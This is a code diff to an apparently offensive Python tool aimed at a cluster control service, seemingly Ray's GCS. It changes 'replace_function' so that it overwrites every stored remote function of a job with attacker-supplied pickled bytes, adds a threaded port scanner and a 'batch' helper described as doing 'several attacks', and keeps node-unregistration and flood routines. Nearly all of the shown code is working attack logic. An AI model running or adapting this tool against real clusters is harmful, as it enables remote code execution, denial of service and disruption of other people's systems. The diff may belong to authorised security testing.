@@ -12,6 +12,7 @@ from __future__ import annotations
 import hashlib
 import json
 import os
+import pickle
 import socket
 import ssl
 import sys
@@ -80,7 +81,9 @@ def call(gcs: Gcs, path: str, body: str = "") -> dict[str, Any]:
 
 def call_all(gcs: Gcs, paths: list[str]) -> dict[str, Any]:
     """Call each method without arguments."""
-    return {"codes": {path: outcome(_discard, gcs, path, b"")["code"] for path in paths}}
+    return {
+        "codes": {path: outcome(_discard, gcs, path, b"")["code"] for path in paths}
+    }
 
 
 def short_ids(gcs: Gcs) -> None:
@@ -120,12 +123,13 @@ def unregister_node(gcs: Gcs, node_id: str) -> None:
     gcs.raw(NODE + "UnregisterNode", ask.SerializeToString())
 
 
-def replace_function(gcs: Gcs, job: str, value: str) -> dict[str, Any]:
-    """Replace every function of a job by other bytes."""
+def replace_function(gcs: Gcs, job: str, function: str) -> dict[str, Any]:
+    """Replace every function of a job by another (pickled, as hex)."""
     keys = gcs.kv("Keys", namespace=b"fun", prefix=f"RemoteFunction:{job}:".encode())
     for key in keys.results:
-        gcs.kv("Put", namespace=b"fun", key=key, value=bytes.fromhex(value),
-               overwrite=True)  # fmt: skip
+        known = pickle.loads(gcs.kv("Get", namespace=b"fun", key=key).value)
+        value = pickle.dumps({**known, "function": bytes.fromhex(function)})
+        gcs.kv("Put", namespace=b"fun", key=key, value=value, overwrite=True)
     return {"replaced": len(keys.results)}
 
 
@@ -242,16 +246,29 @@ def _discard(gcs: Gcs, path: str, body: bytes) -> None:
     gcs.raw(path, body)
 
 
-def plain_port(gcs: Gcs) -> dict[str, Any]:
-    """Connect to a port and say what it answers to HTTP."""
-    host, _, port = gcs.target["address"].partition(":")
+def plain_ports(gcs: Gcs, ports: list[int]) -> dict[str, Any]:
+    """Connect to each port and say what it answers to HTTP."""
+    host = gcs.target["address"].partition(":")[0]
+    with ThreadPoolExecutor(16) as pool:
+        found = pool.map(lambda port: _plain_port(host, port), ports)
+        return {"answers": dict(zip(map(str, ports), found))}
+
+
+def _plain_port(host: str, port: int) -> str:
     try:
-        with socket.create_connection((host, int(port)), timeout=1) as sock:
+        with socket.create_connection((host, port), timeout=1) as sock:
             sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
             sock.settimeout(2)
-            return {"answer": sock.recv(64).decode(errors="replace")}
+            return sock.recv(64).decode(errors="replace")
     except OSError as error:
-        return {"error": type(error).__name__}
+        return type(error).__name__
+
+
+def batch(gcs: Gcs, calls: list[list[Any]]) -> dict[str, Any]:
+    """Do several attacks; return the code of each."""
+    return {
+        "codes": [outcome(globals()[name], gcs, *rest)["code"] for name, *rest in calls]
+    }
 
 
 def _flood(gcs: Gcs, seconds: float, threads: int, one: Any) -> dict[str, Any]:
